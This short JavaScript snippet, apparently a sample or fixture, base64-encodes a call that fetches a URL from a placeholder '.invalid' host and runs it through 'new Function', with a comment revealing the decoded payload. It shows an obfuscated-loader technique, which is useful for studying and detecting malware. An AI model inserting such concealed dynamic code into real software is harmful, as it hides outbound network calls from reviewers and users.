// The payload is `require('https').get('https://x.example.invalid/p')`, base64-encoded.
const p = 'cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8veC5leGFtcGxlLmludmFsaWQvcCcp';
new Function(Buffer.from(p, 'base64').toString('utf8'))();
